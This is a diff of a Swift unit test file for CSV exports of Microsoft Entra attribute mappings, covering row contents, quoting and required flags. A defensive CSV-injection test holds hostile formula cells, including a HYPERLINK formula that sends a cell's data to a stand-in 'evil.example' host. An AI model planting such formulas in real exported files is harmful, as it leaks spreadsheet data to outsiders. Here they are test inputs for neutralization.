@@ -64,7 +64,9 @@ final class EntraMappingCSVTests: XCTestCase {
 
     // MARK: - Tests
 
-    func testEveryVendorsCSVReadsBackAsItsDescriptor() throws {
+    /// The CSV holds exactly the definitions of `entra-mappings.json`, read from that file with the
+    /// JSON parser, with their mappings, plus the vendor's "on request" attributes marked so.
+    func testEveryVendorsCSVHoldsExactlyTheRowsOfItsJSON() throws {
         var files: [String: [UInt8]] = [:]
         for vendor in EntraTestSupport.vendors {
             let name = "\(vendor.id)/mappings/attribute-mappings.csv"
@@ -74,8 +76,8 @@ final class EntraMappingCSVTests: XCTestCase {
         for vendor in EntraTestSupport.vendors {
             let rows = try XCTUnwrap(read["\(vendor.id)/mappings/attribute-mappings.csv"])
             XCTAssertEqual(rows.first, EntraMappingCSV.header)
-            let actual = rows.dropFirst().map { Expected(csv: $0) }
-            XCTAssertEqual(actual, Expected.rows(of: vendor.descriptor), vendor.id)
+            let json = try EntraTestSupport.parse(try XCTUnwrap(EntraMappingOutput.files(for: vendor)["\(vendor.id)/mappings/entra-mappings.json"]))
+            XCTAssertEqual(rows.dropFirst().map { Expected(csv: $0) }, Expected.rows(json: json, vendor: vendor.descriptor), vendor.id)
         }
     }
 
@@ -93,12 +95,85 @@ final class EntraMappingCSVTests: XCTestCase {
         XCTAssertEqual(
             String(decoding: bytes, as: UTF8.self),
             EntraMappingCSV.header.joined(separator: ",") + "\r\n"
-                + "User,userName,String,Attribute,userPrincipalName,entra,1,,true,Always,,,mapped\r\n"
-                + "User,title,String,Constant,\"a, \"\"b\"\"\r\nc ü\",vendor,,,false,Always,,,mapped\r\n"
-                + "User,nickName,String,Function,\"Join(\"\",\"\", [givenName], [surname])\",vendor,,,false,Always,,\"x, \"\"y\"\"\",mapped\r\n")
+                + "User,userName,Direct,userPrincipalName,entra,,1,Always,FlowWhenChanged,String,,true,,mapped\r\n"
+                + "User,title,Constant,\"a, \"\"b\"\"\r\nc ü\",vendor,,,Always,FlowWhenChanged,String,,false,,mapped\r\n"
+                + "User,nickName,Expression,\"Join(\"\",\"\", [givenName], [surname])\",vendor,,,Always,FlowWhenChanged,String,,false,\"x, \"\"y\"\"\",mapped\r\n")
         let rows = try XCTUnwrap(try readBack([name: bytes])[name])
-        XCTAssertEqual(rows.map { $0[4] }, ["source", "userPrincipalName", "a, \"b\"\r\nc ü", "Join(\",\", [givenName], [surname])"])
-        XCTAssertEqual(rows.last?[11], "x, \"y\"")
+        XCTAssertEqual(rows.map { $0[3] }, ["source", "userPrincipalName", "a, \"b\"\r\nc ü", "Join(\",\", [givenName], [surname])"])
+        XCTAssertEqual(rows.last?[12], "x, \"y\"")
+    }
+
+    /// OWASP's "CSV Injection": no cell begins with '=', '+', '-', '@', tab, CR or LF; such a cell
+    /// begins with "'" and reads back, through Python's csv module, as the value after it.
+    func testFormulaCellsAreNeutralized() throws {
+        let hostile = ["=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1", "\n=1"]
+        var rows: [AttributeMapping] = [AttributeMapping(path: "userName", type: .string, filterable: true, matching: 1)]
+        let targets = ["title", "nickName", "displayName", "locale", "timezone", "preferredLanguage", "userType"]
+        for (target, value) in zip(targets, hostile) {
+            // A field ref is one line; the others hold any text.
+            let fieldRef = value.contains(where: \.isNewline) ? nil : value
+            rows.append(AttributeMapping(path: target, type: .string, source: .constant(value), fieldRef: fieldRef, defaultValue: value))
+        }
+        let vendor = VendorDescriptor(
+            id: "formulas", file: "vendor.json", name: "Formulas",
+            credentials: Credentials(steps: [CredentialStep(text: "Copy the token.")]), users: AttributeTable(attributes: rows))
+        let name = "formulas/mappings/attribute-mappings.csv"
+        let bytes = try XCTUnwrap(EntraMappingOutput.files(for: try vendor.checked())[name])
+        let read = try XCTUnwrap(try readBack([name: bytes])[name])
+        for (index, value) in hostile.enumerated() {
+            let row = read[index + 2]
+            for column in value.contains(where: \.isNewline) ? [3, 5] : [3, 5, 12] {
+                XCTAssertEqual(row[column], "'" + value, "column \(EntraMappingCSV.header[column]) of '\(value)'")
+                // A program drops the "'" before a formula character and has the value.
+                XCTAssertEqual(String(row[column].dropFirst()), value)
+            }
+        }
+        for row in read {
+            for cell in row {
+                XCTAssertFalse(cell.unicodeScalars.first.map(EntraMappingCSV.formulaStarts.contains) ?? false, "'\(cell)' starts a formula")
+            }
+        }
+        // Cells that only contain those characters later are left as they are.
+        XCTAssertEqual(EntraMappingCSV.neutralized("a=b"), "a=b")
+        XCTAssertEqual(EntraMappingCSV.neutralized(""), "")
+    }
+
+    /// The descriptor's `required` reaches the CSV and the vendor's Entra definitions, row by row.
+    func testRequiredReachesTheCSVAndTheDefinitions() throws {
+        let vendor = VendorDescriptor(
+            id: "required", file: "vendor.json", name: "Required",
+            credentials: Credentials(steps: [CredentialStep(text: "Copy the token.")]),
+            users: AttributeTable(attributes: [
+                AttributeMapping(path: "userName", type: .string, filterable: true, required: true, matching: 1),
+                AttributeMapping(path: "active", type: .boolean, required: false),
+                AttributeMapping(path: "name.givenName", type: .string, required: true),
+                AttributeMapping(path: "title", type: .string),
+                AttributeMapping(path: "urn:ietf:params:scim:schemas:extension:acme:2.0:User:costCode", type: .string),
+            ]),
+            extensions: [
+                ExtensionSchema(
+                    id: "urn:ietf:params:scim:schemas:extension:acme:2.0:User", name: "AcmeUser",
+                    attributes: [
+                        ExtensionAttribute(name: "costCode", type: .string, required: true),
+                        ExtensionAttribute(name: "region", type: .string, required: true),
+                        ExtensionAttribute(name: "badge", type: .string),
+                    ])
+            ])
+        let files = EntraMappingOutput.files(for: try vendor.checked())
+        let csv = try XCTUnwrap(try readBack(["required/mappings/attribute-mappings.csv": try XCTUnwrap(files["required/mappings/attribute-mappings.csv"])]).values.first)
+        // The rows' marks, then the extension schema's own (a row that says nothing takes the schema's).
+        let acme = "urn:ietf:params:scim:schemas:extension:acme:2.0:User:"
+        XCTAssertEqual(
+            csv.dropFirst().map { [$0[1], $0[10]] },
+            [
+                ["userName", "true"], ["active", "false"], ["name.givenName", "true"], ["title", ""], [acme + "costCode", "true"],
+                [acme + "region", "true"], [acme + "badge", ""],
+            ])
+        let json = try EntraTestSupport.parse(try XCTUnwrap(files["required/mappings/entra-mappings.json"]))
+        let definitions = json["directories"]?.array?.first?["objects"]?.array?.first?["attributes"]?.array ?? []
+        XCTAssertEqual(
+            definitions.map { $0["required"] },
+            [JSONValue.bool(true), .bool(false), .bool(true), nil, .bool(true), .bool(true), nil] as [JSONValue?])
     }
 
     func testBrokenCSVIsRejectedByTheChecker() throws {
@@ -115,58 +190,71 @@ final class EntraMappingCSVTests: XCTestCase {
     }
 }
 
-/// The columns a row must have, worked out from the descriptor without the output's code paths.
+/// The columns a row must have, worked out from `entra-mappings.json` as a JSON document and from
+/// the descriptor's rows, without the CSV's code paths.
 private struct Expected: Equatable, CustomStringConvertible {
-    var object, target, type, source, matching, required, filterable, fieldRef, status: String
+    var fields: [String]
 
-    init(object: String, target: String, type: String, source: String, matching: String, required: String,
-         filterable: String, fieldRef: String, status: String) {
-        (self.object, self.target, self.type, self.source) = (object, target, type, source)
-        (self.matching, self.required, self.filterable, self.fieldRef, self.status) = (matching, required, filterable, fieldRef, status)
-    }
+    init(csv row: [String]) { fields = row }
 
-    init(csv row: [String]) {
-        let field = { (index: Int) in index < row.count ? row[index] : "<missing>" }
-        self.init(
-            object: field(0), target: field(1), type: field(2), source: field(4), matching: field(6), required: field(7),
-            filterable: field(8), fieldRef: field(11), status: field(12))
-    }
+    init(_ fields: [String]) { self.fields = fields }
 
-    var description: String { [object, target, type, source, matching, required, filterable, fieldRef, status].joined(separator: ",") }
+    var description: String { fields.joined(separator: "|") }
 
-    static func rows(of vendor: VendorDescriptor) -> [Expected] {
+    static func rows(json: JSONValue, vendor: VendorDescriptor) -> [Expected] {
         var result: [Expected] = []
-        let refs = Dictionary(
-            (vendor.customFieldMappings?.allowedAttributes ?? []).map { ($0.path, $0.fieldRef ?? "") }, uniquingKeysWith: { a, _ in a })
-        func add(_ table: AttributeTable, object: String, resource: SCIMResource) {
-            for row in table.attributes {
-                let source = row.source ?? EntraDefaultSources.source(for: row.path, in: resource)
-                result.append(
-                    Expected(
-                        object: object, target: row.path, type: row.type.rawValue, source: text(source),
-                        matching: row.matching.map(String.init) ?? "", required: row.required.map { "\($0)" } ?? "",
-                        filterable: "\(row.filterable)", fieldRef: row.fieldRef ?? (resource == .user ? refs[row.path] ?? "" : ""),
-                        status: source == nil ? "unmapped" : "mapped"))
+        let objects = json["directories"]?.array?.first?["objects"]?.array ?? []
+        let mappings = json["synchronizationRules"]?.array?.first?["objectMappings"]?.array ?? []
+        let refs = (vendor.customFieldMappings?.allowedAttributes ?? []).map { ($0.path.lowercased(), $0.fieldRef ?? "") }
+        for (index, object) in objects.enumerated() {
+            let resource = index == 0 ? "User" : "Group"
+            let table = index == 0 ? vendor.users : vendor.groups
+            let attributeMappings = index < mappings.count ? mappings[index]["attributeMappings"]?.array ?? [] : []
+            var names: [String] = []
+            for definition in object["attributes"]?.array ?? [] {
+                let name = definition["name"]?.string ?? "?"
+                names.append(name.lowercased())
+                let row = table?.attributes.first { canonical($0.path) == name.lowercased() }
+                var fields = [resource, name]
+                if let mapping = attributeMappings.first(where: { $0["targetAttributeName"]?.string == name }) {
+                    let source = mapping["source"]
+                    let type = source?["type"]?.string
+                    let mappingType = ["Attribute": "Direct", "Function": "Expression", "Constant": "Constant"][type ?? ""] ?? "?"
+                    let text = type == "Function" ? source?["expression"]?.string : source?["name"]?.string
+                    let priority = mapping["matchingPriority"].flatMap { value -> String? in
+                        if case .number(let text) = value { return text == "0" ? "" : text }
+                        return nil
+                    } ?? "?"
+                    fields += [
+                        mappingType, text ?? "?", row?.source == nil ? "entra" : "vendor", mapping["defaultValue"]?.string ?? "",
+                        priority, mapping["flowType"]?.string ?? "Always", mapping["flowBehavior"]?.string ?? "FlowWhenChanged",
+                    ]
+                } else {
+                    fields += ["", "", "", "", "", "", ""]
+                }
+                let required: String
+                switch definition["required"] {
+                case .bool(let flag)?: required = "\(flag)"
+                default: required = ""
+                }
+                let ref = row?.fieldRef ?? (index == 0 ? refs.first { canonical($0.0) == name.lowercased() }?.1 ?? "" : "")
+                fields += [
+                    definition["type"]?.string ?? "?", required, row.map { "\($0.filterable)" } ?? "", ref,
+                    fields[2].isEmpty ? "unmapped" : "mapped",
+                ]
+                result.append(Expected(fields.map(EntraMappingCSV.neutralized)))
+            }
+            if index == 0 {
+                for allowed in vendor.customFieldMappings?.allowedAttributes ?? [] where !names.contains(canonical(allowed.path)) {
+                    names.append(canonical(allowed.path))
+                    result.append(
+                        Expected(["User", allowed.path, "", "", "", "", "", "", "", "String", "", "", allowed.fieldRef ?? "", "on request (not in entra-mappings.json)"]))
+                }
             }
         }
-        add(vendor.users, object: "User", resource: .user)
-        for allowed in vendor.customFieldMappings?.allowedAttributes ?? [] where !vendor.users.attributes.contains(where: { $0.path == allowed.path }) {
-            result.append(
-                Expected(
-                    object: "User", target: allowed.path, type: "String",
-                    source: text(EntraDefaultSources.source(for: allowed.path, in: .user)), matching: "", required: "",
-                    filterable: "", fieldRef: allowed.fieldRef ?? "", status: "on request"))
-        }
-        if let groups = vendor.groups { add(groups, object: "Group", resource: .group) }
         return result
     }
 
-    static func text(_ source: MappingSource?) -> String {
-        switch source {
-        case .attribute(let name): return name
-        case .expression(let text): return text
-        case .constant(let value): return value
-        case nil: return ""
-        }
-    }
+    /// The committed descriptors write paths as Entra names them, ignoring case.
+    static func canonical(_ path: String) -> String { path.lowercased() }
 }
